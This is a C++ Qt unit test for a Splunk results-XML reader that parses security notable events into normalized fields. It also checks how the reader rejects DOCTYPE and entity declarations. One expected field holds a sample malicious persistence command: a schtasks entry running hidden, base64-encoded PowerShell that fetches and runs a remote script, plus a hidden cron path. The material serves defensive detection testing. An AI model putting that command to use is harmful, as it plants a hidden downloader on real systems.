#include "ingest/FormatRegistry.h"
#include "ingest/NormalizedEvent.h"
#include "ingest/SplunkResultsXmlReader.h"

#include <QBuffer>
#include <QFile>
#include <QTest>

using namespace tb;

class TestSplunkResultsXmlReader : public QObject {
    Q_OBJECT

    static QString notablesFile() {
        return QStringLiteral(TEST_DATA_DIR "/formats/splunk/es_notables_results.xml");
    }
    static QString twoDocumentsFile() {
        return QStringLiteral(TEST_DATA_DIR "/splunk/two_documents_results.xml");
    }
    static QString doctypeFile() { return QStringLiteral(TEST_DATA_DIR "/splunk/doctype_results.xml"); }

    static QList<NormalizedEvent> readAll(QIODevice *device, QList<ImportIssue> *issues = nullptr,
                                          EventReader::Status *last = nullptr) {
        SplunkResultsXmlReader reader(device, {QStringLiteral("f.xml"), TimeNormalizer(), QString()});
        QList<NormalizedEvent> events;
        NormalizedEvent event;
        ImportIssue issue;
        for (;;) {
            const auto status = reader.next(event, issue);
            if (status == EventReader::Status::Event)
                events << event;
            else if (issues && status != EventReader::Status::End)
                issues->append(issue);
            if (status == EventReader::Status::End || status == EventReader::Status::Failed) {
                if (last)
                    *last = status;
                break;
            }
        }
        return events;
    }

    static QList<NormalizedEvent> readFile(const QString &path, QList<ImportIssue> *issues = nullptr,
                                           EventReader::Status *last = nullptr) {
        QFile file(path);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        return readAll(&file, issues, last);
    }

    static QList<NormalizedEvent> readBytes(QByteArray bytes, QList<ImportIssue> *issues = nullptr,
                                            EventReader::Status *last = nullptr) {
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::ReadOnly);
        return readAll(&buffer, issues, last);
    }

    static QString value(const NormalizedEvent &event, const QString &column) {
        const auto field = eventFieldByColumn(column);
        return field ? event.value(*field) : QStringLiteral("<no such column>");
    }

private slots:
    void detects_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<bool>("matches");
        auto file = [](const QString &path) {
            QFile f(path);
            return f.open(QIODevice::ReadOnly) ? f.read(64 * 1024) : QByteArray();
        };
        QTest::newRow("notables") << file(notablesFile()) << true;
        QTest::newRow("two documents") << file(twoDocumentsFile()) << true;
        QTest::newRow("doctype, to be refused by name") << file(doctypeFile()) << true;
        QTest::newRow("no declaration") << QByteArray("<results preview='0'>\n<result offset='0'>") << true;
        QTest::newRow("double-quoted declaration")
            << QByteArray("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\n<results preview=\"0\">") << true;
        QTest::newRow("windows events") << QByteArray("<Events><Event xmlns='x'/></Events>") << false;
        QTest::newRow("other root") << QByteArray("<?xml version='1.0'?><resultset/>") << false;
    }
    void detects() {
        QFETCH(QByteArray, head);
        QFETCH(bool, matches);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head));
        QCOMPARE(detected && detected->id == "splunk.results.xml", matches);
    }

    void notables_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("rule") << 0 << "rule_name"
                              << "Windows Schtasks Create Run As System";
        QTest::newRow("search is the rule id") << 0 << "rule_id"
                                               << "ESCU - Windows Schtasks Create Run As System - Rule";
        QTest::newRow("ESCU name") << 0 << "rule_ref_id"
                                   << "Windows Schtasks Create Run As System";
        QTest::newRow("source") << 0 << "rule_source"
                                << "splunk_es";
        QTest::newRow("urgency is severity") << 0 << "severity"
                                             << "high";
        QTest::newRow("status") << 0 << "status"
                                << "new";
        QTest::newRow("status raw") << 0 << "status_raw"
                                    << "New";
        QTest::newRow("owner") << 0 << "owner"
                               << "unassigned";
        QTest::newRow("disposition") << 0 << "disposition_raw"
                                     << "Undetermined";
        QTest::newRow("multivalue mitre") << 0 << "mitre"
                                          << "[\"T1053\",\"T1053.005\"]";
        QTest::newRow("alert time") << 0 << "alert_time_utc"
                                    << "2025-03-04T09:45:02.000000Z";
        QTest::newRow("host") << 0 << "host"
                              << "wks-fin-023";
        QTest::newRow("user") << 0 << "user"
                              << "jdoe";
        QTest::newRow("entities unescaped") << 0 << "command_line"
                                            << "schtasks  /create /sc onlogon /tn \"WindowsDefenderUpdate\" "
                                               "/tr \"powershell.exe -nop -w hidden "
                                               "-enc "
                                               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiA"
                                               "EMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
                                               "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4"
                                               "AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwA"
                                               "pAA==\" /ru SYSTEM /rl HIGHEST /f";
        QTest::newRow("run as") << 0 << "task_run_as"
                                << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("resolved") << 1 << "status"
                                  << "closed";
        QTest::newRow("analyst") << 1 << "owner"
                                 << "tsmith";
        QTest::newRow("in progress") << 2 << "status"
                                     << "in_progress";
        QTest::newRow("critical") << 2 << "severity"
                                  << "critical";
        QTest::newRow("TaskName") << 3 << "task_name"
                                  << "\\Corp\\NightlyBackup";
        QTest::newRow("at remote") << 4 << "target_host"
                                   << "SRV-APP-02";
        QTest::newRow("cron file") << 5 << "target_path"
                                   << "/etc/cron.d/.sys-update";
        QTest::newRow("linux") << 5 << "platform"
                               << "linux";
        QTest::newRow("one mitre value") << 5 << "mitre"
                                         << "[\"T1053.003\"]";
    }
    void notables() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        QList<ImportIssue> issues;
        const auto events = readFile(notablesFile(), &issues);
        QVERIFY(issues.isEmpty());
        QCOMPARE(events.size(), 6);
        QCOMPARE(events[record].recordNo, qint64(record));
        QCOMPARE(value(events[record], column), expected);
        QVERIFY(events[record].identity.contains("@@notable@@"));
    }

    void rawIsTheResultElement() {
        const auto events = readFile(notablesFile());
        QVERIFY(events[0].raw.startsWith("<result offset='0'>"));
        QVERIFY(events[0].raw.endsWith("</result>"));
        QVERIFY(events[0].rawFields.contains("\"annotations.mitre_attack\":\"T1053\\nT1053.005\""));
        QVERIFY(!events[0].rawFields.contains("fieldOrder"));
    }

    void twoDocuments_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("first") << 0 << "task_name"
                               << "\\WindowsDefenderUpdate";
        QTest::newRow("second") << 1 << "task_name"
                                << "\\ZoomUpdateTask";
        QTest::newRow("second document") << 2 << "task_name"
                                         << "\\At1";
        QTest::newRow("time") << 2 << "time_utc"
                              << "2025-03-04T22:49:03.012000Z";
    }
    void twoDocuments() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        QList<ImportIssue> issues;
        const auto events = readFile(twoDocumentsFile(), &issues);
        QVERIFY2(issues.isEmpty(), qPrintable(issues.value(0).toString()));
        QCOMPARE(events.size(), 3);
        QCOMPARE(value(events[record], column), expected);
        QCOMPARE(events[record].recordNo, qint64(record));
    }

    void rawTextWithHighlights() {
        const auto events = readFile(twoDocumentsFile());
        QCOMPARE(events.size(), 3);
        // <sg> segments, the spaces between them, entities and character references: all text.
        QVERIFY2(events[0].rawFields.contains("\"_raw\":\"task \\\\WindowsDefenderUpdate created by "
                                              "CORP\\\\jdoe & run as \\\"SYSTEM\\\" A\""),
                 qPrintable(events[0].rawFields));
        QVERIFY(events[0].rawFields.contains("\"_si\":\"idx01\\nwineventlog\""));
        QVERIFY(events[2].rawFields.contains("\"_raw\":\"a CDATA _raw with </result> inside\""));
        QCOMPARE(events[0].identity, "412:1938555");
    }

    void doctypeIsRefused() {
        QList<ImportIssue> issues;
        EventReader::Status last = EventReader::Status::Event;
        const auto events = readFile(doctypeFile(), &issues, &last);
        QCOMPARE(events.size(), 0);
        QCOMPARE(last, EventReader::Status::Failed);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(
            issues[0].toString(),
            "f.xml:record 0 (line 2): the file declares a DOCTYPE or entities; Tunebench does not expand "
            "XML entities, so it refuses the file");
    }

    void previews_data() {
        QTest::addColumn<QByteArray>("xml");
        QTest::addColumn<QStringList>("tasks");
        const QByteArray preview = "<results preview='1'><result offset='0'><field k='TaskName'><value><text>"
                                   "\\Preview</text></value></field></result></results>";
        const QByteArray final = "<results preview='0'><result offset='0'><field k='TaskName'><value><text>"
                                 "\\Final</text></value></field></result></results>";
        QTest::newRow("final supersedes preview") << preview + "\n" + final << QStringList{"\\Final"};
        QTest::newRow("preview only") << preview + preview << QStringList{"\\Preview", "\\Preview"};
        QTest::newRow("empty results") << QByteArray("<results preview='0'/>") << QStringList{};
    }
    void previews() {
        QFETCH(QByteArray, xml);
        QFETCH(QStringList, tasks);
        QList<ImportIssue> issues;
        const auto events = readBytes(xml, &issues);
        QVERIFY(issues.isEmpty());
        QStringList got;
        for (const NormalizedEvent &event : events)
            got << event.value(EventField::TaskName);
        QCOMPARE(got, tasks);
    }

    void badInput_data() {
        QTest::addColumn<QByteArray>("xml");
        QTest::addColumn<int>("events");
        QTest::addColumn<QString>("expected"); // the message, or its beginning
        QTest::newRow("truncated")
            << QByteArray("<results preview='0'>\n<result offset='0'><field k='host'><value><text>a") << 0
            << "f.xml:record 0 (line 2): the file ends inside a <result> (truncated?)";
        QTest::newRow("not well-formed")
            << QByteArray("<results preview='0'>\n<result offset='0'><field k='host'>"
                          "<value><text>a</value></field></result>")
            << 0 << "f.xml:record 1 (line 2): a <result> is not well-formed XML: ";
        QTest::newRow("entity declared inside")
            << QByteArray("<results preview='0'>\n<result><!ENTITY x 'y'></result>") << 0
            << "f.xml:record 0 (line 2): the file declares a DOCTYPE";
        QTest::newRow("good then bad")
            << QByteArray("<results preview='0'><result><field k='host'><value><text>a</text></value></field>"
                          "</result>\n<!DOCTYPE x>")
            << 1 << "f.xml:record 1 (line 2): the file declares a DOCTYPE";
    }
    void badInput() {
        QFETCH(QByteArray, xml);
        QFETCH(int, events);
        QFETCH(QString, expected);
        QList<ImportIssue> issues;
        EventReader::Status last = EventReader::Status::Event;
        const auto read = readBytes(xml, &issues, &last);
        QCOMPARE(read.size(), events);
        QCOMPARE(last, EventReader::Status::Failed);
        QCOMPARE(issues.size(), 1);
        QVERIFY2(issues[0].toString().startsWith(expected), qPrintable(issues[0].toString()));
    }

    // Results split across the reader's 256 KiB reads come out whole.
    void largeFileStreams() {
        QByteArray xml = "<?xml version='1.0' encoding='UTF-8'?>\n<results preview='0'>\n";
        const int count = 3000;
        for (int i = 0; i < count; ++i)
            xml += "<result offset='" + QByteArray::number(i) + "'><field k='TaskName'><value><text>\\T" +
                   QByteArray::number(i) + "</text></value></field><field k='_raw'><v xml:space='preserve'>" +
                   QByteArray(200, 'x') + "</v></field></result>\n";
        xml += "</results>\n";
        QVERIFY(xml.size() > 2 * 256 * 1024);
        QList<ImportIssue> issues;
        const auto events = readBytes(xml, &issues);
        QVERIFY(issues.isEmpty());
        QCOMPARE(events.size(), count);
        QCOMPARE(events[count - 1].value(EventField::TaskName), "\\T2999");
    }
};

QTEST_GUILESS_MAIN(TestSplunkResultsXmlReader)
#include "tst_splunkresultsxmlreader.moc"
